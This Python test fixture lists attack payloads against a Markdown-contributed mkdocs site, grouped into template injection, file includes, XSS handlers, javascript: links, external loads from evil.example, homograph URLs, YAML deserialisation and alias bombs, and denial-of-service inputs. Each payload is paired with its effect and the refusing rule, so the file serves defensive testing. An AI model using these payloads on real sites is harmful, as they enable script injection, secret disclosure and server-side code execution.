"""What someone may try: one list for all tests, in the classes of the security study.

``effect`` is what the payload does to an unprotected site (mkdocs, Material, macros and the
usual extensions, with contributed Markdown straight in ``docs/``); test_unprotected.py
sees each of them happen. ``answer`` is what our own check says: the rule that refuses it,
or ``""`` when it is accepted and must be shown as the text that it is.
"""

from dataclasses import dataclass
from typing import Literal

Effect = Literal["code", "said", "script", "click", "foreign", "element", "crash", "hang", "inert_by_default"]
"""code: ran at build. said: its result stands in the page. script: ran in the browser. click: ran when
clicked. foreign: the browser asked another origin. element: something stands in the page that should not."""

JS = "top.s3x=1"
PRODUCT = "60481729"
"""What {{ 7777*7777 }} becomes where it is computed."""
SECRET = "hemligheten-i-filen"
EVIL = "https://evil.example"


@dataclass(frozen=True)
class Payload:
    """Some contributed text. ``@MARK@`` stands for the path of a file that it would create."""

    group: str
    name: str
    text: str
    effect: Effect
    seen: str = ""
    """A selector of what stands in the unprotected page, for the effect ``element``; or the words of ``said``."""
    answer: str = ""

    def __str__(self) -> str:
        return f"{self.group}-{self.name}"


def _group(group: str, *rows: tuple[str, ...]) -> list[Payload]:
    return [Payload(group, *row) for row in rows]  # type: ignore[arg-type]


OPEN = 'cycler.__init__.__globals__.os.open("@MARK@", 64)'
TEMPLATES = _group(
    "template",
    ("product", "{{ 7777*7777 }}", "said", PRODUCT),
    ("code", "{{ " + OPEN + " }}", "code"),
    ("statement", "{% set x = " + OPEN + " %}", "code"),
    ("macro", "{% macro m() %}{{ " + OPEN + " }}{% endmacro %}{{ m() }}", "code"),
    ("attr", r"{{ (cycler|attr('\x5f\x5finit\x5f\x5f')).__globals__.os.open('@MARK@', 64) }}", "code"),
    ("theme-env", '{{ config.theme.get_env().from_string("{{ 7777*7777 }}").render() }}', "said", PRODUCT),
    ("configuration", "{{ extra.secret }}", "said", SECRET),
    ("macros-info", "{{ macros_info() }}", "said", "Macros Plugin Environment"),
    ("file", "{% include 'hemligt.txt' %}", "said", SECRET),
    ("etc", "{% include '../../etc/passwd' %}", "inert_by_default"),
    ("in-code", "`{{ 7777*7777 }}`", "said", PRODUCT),
    ("in-fence", "```\n{{ 7777*7777 }}\n```", "said", PRODUCT),
    ("in-table", "| a |\n|---|\n| {{ 7777*7777 }} |", "said", PRODUCT),
    ("broken", "{% procent i löptext", "said", "Macro Syntax Error"),
)
SNIPPETS = _group(
    "snippet",
    ("settings", '--8<-- "mkdocs.yml"', "said", SECRET),
    ("checkout", '--8<-- ".git/config"', "said", SECRET),
    ("block", "--8<--\nmkdocs.yml\n--8<--", "said", SECRET),
    ("in-fence", '```\n--8<-- "mkdocs.yml"\n```', "said", SECRET),
    ("scissors", ';--8<-- "mkdocs.yml"', "inert_by_default"),
    ("outside", '--8<-- "../../../../etc/passwd"', "inert_by_default"),
)
HANDLERS = _group(
    "handler",
    ("script", f"<script>{JS}</script>", "script"),
    ("script-in-text", f"ord <script>{JS}</script> ord", "script"),
    ("script-remote", f"<script src={EVIL}/a.js></script>", "foreign"),
    ("module", f'<script type="module">{JS}</script>', "script"),
    ("img", f'<img src=x onerror="{JS}">', "script"),
    ("img-slashes", f'<img/src="x"/onerror="{JS}">', "inert_by_default"),
    ("svg", f'<svg onload="{JS}"></svg>', "script"),
    ("svg-script", f"<svg><script>{JS}</script></svg>", "script"),
    ("details", f'<details open ontoggle="{JS}">a</details>', "script"),
    ("video", f'<video><source onerror="{JS}"></video>', "script"),
    ("input", f'<input autofocus onfocus="{JS}">', "script"),
    ("srcdoc", f'<iframe srcdoc="<script>{JS}</script>"></iframe>', "script"),
    ("frame-javascript", f'<iframe src="javascript:{JS}"></iframe>', "script"),
    ("object-data", '<object data="data:text/html,x"></object>', "element", "article object"),
    ("comment", f"<!--><img src=x onerror={JS}>-->", "script"),
    ("noscript", f'<noscript><p title="</noscript><img src=x onerror={JS}>">', "script"),
    ("mathml", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={JS}&gt;\">",
     "inert_by_default"),
    ("shadow", f'<div><template shadowrootmode="open"><img src=x onerror="{JS}"></template></div>', "script"),
    ("in-heading", f"## a <img src=x onerror='{JS}'>", "script"),
    ("in-table", f"| a |\n|---|\n| <img src=x onerror='{JS}'> |", "script"),
    ("in-list", f"- a\n- <img src=x onerror='{JS}'>", "script"),
    ("in-quote", f"> <img src=x onerror='{JS}'>", "script"),
    ("in-footnote", f"a[^z]\n\n[^z]: b <img src=x onerror='{JS}'>", "script"),
    ("in-admonition", f"!!! note\n    <img src=x onerror='{JS}'>", "script"),
    ("admonition-title", f'!!! note "a <img src=x onerror={JS}>"\n    b', "inert_by_default"),
    ("in-title", f"# a `</title><script>{JS}</script>`", "script", "", "prose-heading"),
    ("in-code-heading", f"## a `</title><script>{JS}</script>`\n\n### b", "inert_by_default"),
    ("critic", f"{{++ <img src=x onerror='{JS}'> ++}}", "script"),
    ("block-html", f"/// html | script\n{JS}\n///", "script"),
    ("unclosed", f'<img src=x onerror="{JS}"\n//', "inert_by_default"),
)  # fmt: skip
ATTRIBUTES = _group(
    "attr-list",
    ("image", f'![a](x.png){{ onerror="{JS}" }}', "script", "", "prose-image"),
    ("heading", f'## Rubrik {{ tabindex=0 autofocus onfocus="{JS}" }}', "script"),
    ("paragraph", f'stycke\n{{: tabindex=0 autofocus onfocus="{JS}" }}', "script"),
    ("emphasis", f'*a*{{: onclick="{JS}" }}', "element", "article em[onclick]"),
    ("markdown-in-html", f'<div markdown onclick="{JS}">\n*a*\n</div>', "element", "article div[onclick]"),
    ("style", "stycke\n{: style='position:fixed;inset:0' }", "element", "article p[style]"),
    ("clobber", "## Rubrik { #__search }", "element", "article #__search"),
)
ELEMENTS = _group(
    "element",
    ("base", f'<base href="{EVIL}/">', "foreign"),
    ("refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/">', "foreign"),
    ("frame", f'<iframe src="{EVIL}/"></iframe>', "foreign"),
    ("object", f'<object data="{EVIL}/x"></object>', "foreign"),
    ("embed", f'<embed src="{EVIL}/x">', "foreign"),
    ("sheet", f'<link rel="stylesheet" href="{EVIL}/x.css">', "foreign"),
    ("style", f"<style>@import '{EVIL}/x.css';</style>", "foreign"),
    ("form", f'<form action="{EVIL}/"><input type="password" name="p"><button>Logga in</button></form>', "element",
     "article form input[type=password]"),
    ("overlay", '<div style="position:fixed;inset:0;z-index:9">a</div>', "element", "article div[style]"),
    ("break-out", '</article></main></div><main class="fake">a</main>', "element", "main.fake"),
    ("plaintext", "<plaintext>", "element", "plaintext"),
    ("textarea", "<textarea>", "element", "textarea"),
    ("comment", "<!-- dolt -->", "inert_by_default"),
    ("picture", f'<picture><source srcset="{EVIL}/x.png"><img src=x></picture>', "foreign"),
    ("poster", f'<video poster="{EVIL}/x.png"></video>', "foreign"),
)  # fmt: skip
LINKS = _group(
    "link",
    ("javascript", f"[a](javascript:{JS})", "click", "", "prose-link"),
    ("case", f"[a](JaVaScRiPt:{JS})", "click", "", "prose-link"),
    ("reference", f"[a][b]\n\n[b]: javascript:{JS}", "click", "", "prose-link"),
    ("entity", f"[a](&#106;avascript:{JS})", "click", "", "prose-link"),
    ("entity-colon", f"[a](javascript&colon;{JS})", "click", "", "prose-link"),
    ("angle", f"[a](<javascript:{JS}>)", "click", "", "prose-link"),
    ("tab", f"[a](<java&Tab;script:{JS}>)", "click", "", "prose-link"),
    ("autolink", f"<javascript:{JS}>", "inert_by_default", "", "prose-link"),
    ("in-table", f"| a |\n|---|\n| [a](javascript:{JS}) |", "click", "", "prose-link"),
    ("in-footnote", f"a[^z]\n\n[^z]: [b](javascript:{JS})", "click", "", "prose-link"),
    ("in-heading", f"## [a](javascript:{JS})", "click", "", "prose-link"),
    ("html", f'<a href="javascript:{JS}">a</a>', "click"),
    ("html-entity", f'<a href="&#x6A;avascript&colon;{JS}">a</a>', "click"),
    ("html-newline", f'<a href="java\nscript:{JS}">a</a>', "click"),
    ("svg", f'<svg><a xlink:href="javascript:{JS}"><text y="9">a</text></a></svg>', "click"),
    ("form-action", f'<form><button formaction="javascript:{JS}">a</button></form>', "element", "[formaction]"),
    ("data", "[a](data:text/html,<script>1</script>)", "element", "article a[href^='data:']", "prose-link"),
    ("vbscript", "[a](vbscript:msgbox)", "element", "article a[href^='vbscript:']", "prose-link"),
    ("file", "[a](file:///etc/passwd)", "element", "article a[href^='file:']", "prose-link"),
    ("blob", "[a](blob:https://evil.example/1)", "element", "article a[href^='blob:']", "prose-link"),
    ("no-scheme", "[a](//evil.example/)", "element", "article a[href^='//']", "prose-link"),
    ("backslash", r"[a](\\\\evil.example/)", "element", "article a[href*='evil.example']", "prose-link"),
    ("relative", "[a](../../kodbok/)", "element", "article a[href='../../kodbok/']", "prose-link"),
    ("user", "[a](https://www.regeringen.se@evil.example/)", "element", "article a[href*='@evil']", "prose-link"),
    ("password", "[a](https://a:b@evil.example/)", "element", "article a[href*='@evil']", "prose-link"),
    (
        "cyrillic",
        "[a](https://www.r\u0435g\u0435ring\u0435n.se/)",
        "element",
        "article a[href*='\u0435']",
        "prose-link",
    ),
    ("punycode", "[a](https://www.xn--rgringn-r3ed.se/)", "element", "article a[href*='xn--']", "prose-link"),
    ("fullwidth", "[a](https://evil\uff0eexample/)", "element", "article a[href*='\uff0e']"),
    ("number", "[a](https://2130706433/)", "element", "article a[href*='2130706433']", "prose-link"),
    ("mail", "[a](mailto:nagon)", "element", "article a[href^='mailto:']", "prose-link"),
)
IMAGES = _group(
    "image",
    ("remote", f"![a]({EVIL}/spion.png)", "foreign", "", "prose-image"),
    ("reference", f"![a][b]\n\n[b]: {EVIL}/spion.png", "foreign", "", "prose-image"),
    ("linked", f"[![a]({EVIL}/spion.png)](https://www.scb.se)", "foreign", "", "prose-image"),
    ("in-footnote", f"a[^z]\n\n[^z]: ![b]({EVIL}/spion.png)", "foreign", "", "prose-image"),
    ("html", f'<img src="{EVIL}/spion.png">', "foreign"),
    ("emoji", ":smile:", "foreign"),
)
PROSE = TEMPLATES + SNIPPETS + HANDLERS + ATTRIBUTES + ELEMENTS + LINKS + IMAGES

NAMES = _group(
    "name",
    ("image", f'<img src=x onerror="{JS}">', "script"),
    ("title", f"</title><script>{JS}</script>", "script"),
    ("script", f"</script><script>{JS}</script>", "script"),
    ("product", "{{ 7777*7777 }}", "said", PRODUCT),
    ("code", "{{ " + OPEN + " }}", "code"),
    ("statement", "{% if 7777 %}{{ 7777*7777 }}{% endif %}", "said", PRODUCT),
    ("escaped", f"&lt;/title&gt;&lt;script&gt;{JS}&lt;/script&gt;", "inert_by_default"),
    ("twice-escaped", f"&amp;lt;img src=x onerror={JS}&amp;gt;", "inert_by_default"),
    ("numbers", f"&#60;/title&#62;&#60;script&#62;{JS}&#60;/script&#62;", "inert_by_default"),
    ("quotes", f'" autofocus onfocus="{JS}" x="', "inert_by_default"),
    ("apostrophes", f"' autofocus onfocus='{JS}' x='", "inert_by_default"),
    ("comment", f"<!-- --!><script>{JS}</script>", "script"),
    ("many-ends", f"</h1></style></noscript></template></textarea><svg onload={JS}>", "script"),
    ("base", f"<base href={EVIL}/>", "foreign"),
    ("refresh", f"<meta http-equiv=refresh content=0;url={EVIL}/>", "foreign"),
    ("frame", f"<iframe srcdoc='<script>{JS}</script>'></iframe>", "script"),
    ("cdata", f"<![CDATA[<script>{JS}</script>]]>", "inert_by_default"),
    ("link", f"[a](javascript:{JS})", "inert_by_default"),
    ("image-link", f"![a]({EVIL}/spion.png)", "inert_by_default"),
    ("attributes", f'Rubrik {{: onclick="{JS}" }}', "inert_by_default"),
    ("snippet", '--8<-- "mkdocs.yml"', "inert_by_default"),
    ("address", f"javascript:{JS}", "inert_by_default"),
    ("format", "%(name)s %s %d {0.__class__} ${x} $(x) %00", "inert_by_default"),
    ("unicode-escape", f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e", "inert_by_default"),
    ("citation", '<sup class="s3-cite"><a href="#kalla-run">9</a></sup>', "element", ".md-header__topic .s3-cite"),
    ("code-mark", f"`</code><script>{JS}</script>`", "script"),
    ("brackets", "<" * 290, "inert_by_default"),
)  # fmt: skip
"""Texts of one line, as titles, names, cells: the unprotected site gets each as a front-matter title."""

FRONT_MATTER = _group(
    "front-matter",
    ("render-macros", "render_macros: true", "code", "", "engine-key"),
    ("ignore-macros", "ignore_macros: true", "crash", "", "engine-key"),
    ("description", f"description: '\"><script>{JS}</script>'", "script", "", "engine-key"),
    ("author", f"author: '\"><script>{JS}</script>'", "script", "", "engine-key"),
    ("redirect", f"template: redirect.html\nlocation: {EVIL}/", "foreign", "", "engine-key"),
    ("template", "template: 404.html", "element", ".md-content h1", "engine-key"),
    ("hide", "hide: [navigation, toc, footer]", "element", ".md-sidebar--primary[hidden]", "engine-key"),
    ("no-template", "template: finns-inte.html", "crash", "", "engine-key"),
    ("icon", "icon: finns/inte", "inert_by_default", "", "engine-key"),
    ("hide-number", "hide: 5", "crash", "", "engine-key"),
    ("tags-number", "tags: 5", "inert_by_default", "", "engine-key"),
    ("search-text", "search: x", "crash", "", "engine-key"),
    ("title-number", "title: 2024", "crash", "", "unknown-key"),
    ("search-exclude", "search: {exclude: true}", "inert_by_default", "", "engine-key"),
    ("unknown", "__class__: x", "inert_by_default", "", "unknown-key"),
    ("merge", "<<: {name: a}", "inert_by_default", "", "unknown-key"),
)
"""Lines of front matter; of those that can be told from an own page, the effect is seen there."""

FILE_NAMES = _group(
    "file-name",
    ("product", "{{ 7777*7777 }}.md", "said", PRODUCT, "file-name"),
    ("image", f"<img src=x onerror={JS}>.md", "script", "", "file-name"),
    ("quotes", f'" autofocus onfocus="{JS}" ".md', "inert_by_default", "", "file-name"),
    ("dash", "-rf.md", "inert_by_default", "", "file-name"),
    ("parent", "..a.md", "inert_by_default", "", "file-name"),
    ("line-break", "a\nb.md", "inert_by_default", "", "file-name"),
    ("direction", "a\u202edm.exe.md", "inert_by_default", "", "file-name"),
    ("upper", "A.MD", "inert_by_default", "", "file-name"),
    ("page", "evil.html", "script", "", "unknown-file"),
    ("drawing", "evil.svg", "script", "", "unknown-file"),
    ("script", "evil.js", "said", "s3x", "unknown-file"),
    ("domain", "CNAME", "said", "evil.example", "unknown-file"),
    ("headers", "_headers", "said", "evil.example", "unknown-file"),
    ("meta", ".meta.yml", "code", "", "unknown-file"),
    ("hidden", ".htaccess", "inert_by_default", "", "unknown-file"),
    ("modules", "requirements.txt", "said", "evil.example", "unknown-file"),
    ("settings", "mkdocs.yml", "said", "evil.example", "unknown-file"),
    ("index", "index.yml", "said", "evil.example", "unknown-file"),
)
CONTENTS = {
    ".html": f"<script>{JS}</script>",
    ".svg": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{JS}</script></svg>',
    ".js": JS,
    ".md": "stycke\n",
    ".meta.yml": "render_macros: true\n",
}
"""What stands in a file of that ending; all others hold ``evil.example``."""

INVISIBLE = {
    "line-separator": "\u2028",
    "paragraph-separator": "\u2029",
    "right-to-left": "\u202e",
    "isolate": "\u2066",
    "zero-width": "\u200b",
    "joiner": "\u2060",
    "byte-order": "a\ufeff",
    "private": "\ue000",
    "tag": "\U000e0041",
    "delete": "\x7f",
    "next-line": "\x85",
    "nul": "\0",
    "escape": "\x1b[2J",
    "placeholder": "\x02wzxhzdk:0\x03",
}
"""Characters that no text may hold, neither as themselves nor as YAML escapes."""

ADDRESSES = {
    "javascript": f"javascript:{JS}",
    "javascript-host": f"javascript://www.scb.se/%0A{JS}",
    "data": "data:text/html,x",
    "file": "file:///etc/passwd",
    "no-scheme": "//evil.example/",
    "user": "https://www.scb.se@evil.example/",
    "cyrillic": "https://www.sc\u0431.se/",
    "quote": f'https://www.scb.se/"onclick="{JS}',
    "tag": "https://www.scb.se/<script>",
    "space": "https://www.scb.se/ a",
    "backslash": "https://www.scb.se\\@evil.example/",
    "template": "https://www.scb.se/{{7*7}}",
    "bracket": "https://[::1/",
}
"""Values of url: and website: that must be refused."""
WITH_ODD_CHARACTERS = ("cyrillic", "quote", "tag", "space", "backslash", "template")
"""Those that start as an address does and hold a character that none has."""


def _bomb() -> str:
    rows = ["a0: &a0 [lol,lol,lol,lol,lol,lol,lol,lol,lol]"]
    rows += [f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
    return "\n".join(rows)


def _merges() -> str:
    rows = ["m0: &m0 {a: 1}"]
    rows += [f"m{n}: &m{n} {{<<: [*m{n - 1}, *m{n - 1}]}}" for n in range(1, 23)]
    return "\n".join(rows)


YAML = _group(
    "yaml",
    ("tag", '!!python/object/apply:os.open ["@MARK@", 64]', "code", "", "yaml-tag"),
    ("tag-directive", '%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.open ["@MARK@", 64]', "code", "",
     "yaml-tag"),
    ("environment", "a: !ENV S3_SECRET", "said", SECRET, "yaml-tag"),
    ("binary", "a: !!binary aGVq", "crash", "", "yaml-tag"),
    ("alias-bomb", _bomb(), "hang", "", "yaml-alias"),
    ("merge-bomb", _merges(), "hang", "", "yaml-alias"),
    ("anchor", "a: &a b\nc: d", "inert_by_default", "", "yaml-anchor"),
    ("self", "a: &a [*a]", "crash", "", "yaml-alias"),
    ("brackets", "a: " + "[" * 200_000, "crash", "", "yaml-depth"),
    ("braces", "a: " + "{a: " * 50_000, "crash", "", "yaml-depth"),
    ("lines", "- " * 20_000 + "a", "crash", "", "yaml-depth"),
    ("keys", "".join(f"k{n}: \n" for n in range(100_000)), "hang", "", "yaml-size"),
    ("question-marks", "? " * 5_000 + "a", "crash", "", "yaml-syntax"),
    ("twice", "summary: a\nsummary: b", "inert_by_default", "", "duplicate-key"),
    ("documents", "a: 1\n---\nb: 2", "crash", "", "yaml-documents"),
    ("directive", "%YAML 1.1\n---\na: 1", "inert_by_default", "", "yaml-directive"),
    ("surrogate", 'a: "\\ud800"', "inert_by_default", "", "yaml-syntax"),
    ("nul", 'a: "\\0"', "inert_by_default", "", "forbidden-character"),
    ("list-as-key", "? [a, b]\n: c", "crash", "", "yaml-syntax"),
)  # fmt: skip
"""Whole files region.yml; the unprotected plug-in reads with the engine's own yaml_load and writes JSON."""

ROW = "elkraft,Elkraft,2023,1,SEK,run"
HEAD = (
    "Operation_Unique_Identifier,Operation_Name_Programme_Language,Operation_Start_Date,"
    "Total_Eligible_Expenditure_amount,Total_Eligible_Expenditure_Currency,Sources"
)
CSV = _group(
    "csv",
    ("long-cell", f"{HEAD}\n{ROW},{'x' * 200_000}\n", "crash", "", "csv-syntax"),
    ("open-quote", f'{HEAD}\n{ROW},"' + "a,b\n" * 100_000, "crash", "", "csv-syntax"),
    ("wide-head", ",".join(f"k{n}" for n in range(100_000)), "inert_by_default", "", "csv-column"),
    ("wide-row", f"{HEAD}\nx{',' * 500_000}\n", "inert_by_default", "", "csv-width"),
    ("many-rows", f"{HEAD}\n" + f"{ROW}\n" * 15_000, "inert_by_default", "", "csv-rows"),
    ("many-sources", f"{HEAD}\n{ROW}{';x' * 200_000}\n".replace(";x;x", ";xa;y"), "crash", "", "csv-syntax"),
    ("column", f"{HEAD},<img src=x onerror={JS}>\n{ROW},a\n", "inert_by_default", "", "csv-column"),
    ("nul", f"{HEAD}\n{ROW}\0\n", "inert_by_default", "", "forbidden-character"),
    ("returns", f"{HEAD}\r\r\n{ROW}\r\n\"a", "inert_by_default", "", "csv-syntax"),
)  # fmt: skip
"""Whole files initiatives.csv; the unprotected plug-in reads them with csv.DictReader."""

DENIAL = _group(
    "denial",
    ("brackets", "[" * 16_000, "hang"),
    ("image-brackets", "![" * 4_000, "hang"),
    ("cdata", "<![CDATA[" * 4_000, "hang"),
    ("footnote-marks", "[^1]: a\n\n" + "[^1]" * 4_000, "hang"),
    ("footnote-in-itself", "[^1]: a " + "[^1]" * 4_000, "hang"),
    ("autolinks", "<http://a" * 6_000, "hang"),
    ("dashes", "- " * 1_000 + "a", "crash"),
    ("deep-list", "\n".join("    " * n + "- a" for n in range(160)), "inert_by_default"),
    ("deep-quote", "> " * 5_000 + "a", "inert_by_default"),
    ("wide-table", "|" + "a|" * 9_000 + "\n|" + "-|" * 9_000 + "\n|" + "b|" * 9_000, "inert_by_default"),
    ("tall-table", "|a|b|\n|-|-|\n" + "|\n" * 20_000, "inert_by_default"),
    ("stars", "*a **b " * 8_000, "inert_by_default"),
    ("underscores", "_" * 59_000, "inert_by_default"),
    ("ticks", "".join("`" * n + "a" for n in range(1, 330)), "inert_by_default"),
    ("open-tags", "<a " * 19_000, "hang"),
    ("comments", "<!--" * 14_000, "inert_by_default"),
    ("references", "".join(f"[a{n}]: x\n" for n in range(4_000)) + "[a1]" * 2_000, "inert_by_default"),
    ("same-headings", "## a\n" * 11_000, "hang"),
    ("entities", "&" * 59_000, "inert_by_default"),
    ("escapes", "\\" * 59_000, "inert_by_default"),
    ("link-parts", "[a](" * 14_000, "hang"),
    ("strikes", "~~a" * 19_000, "inert_by_default"),
    ("tag-like-lines", "<a\n" * 19_000, "hang"),
    ("numbers", "1. " * 1_000 + "a", "crash"),
    ("admonitions", "\n".join("    " * n + "!!! note" for n in range(160)), "inert_by_default"),
    ("blank-lines", "a\n" + "\n" * 58_000 + "b", "inert_by_default"),
    ("spaces", "a" + " " * 58_000 + "b", "inert_by_default"),
    ("one-word", "a" * 59_000, "inert_by_default"),
    ("too-long", "ord " * 20_000, "inert_by_default"),
)
"""Prose below the limit of 60 000 characters (except the last), each a file of its own."""
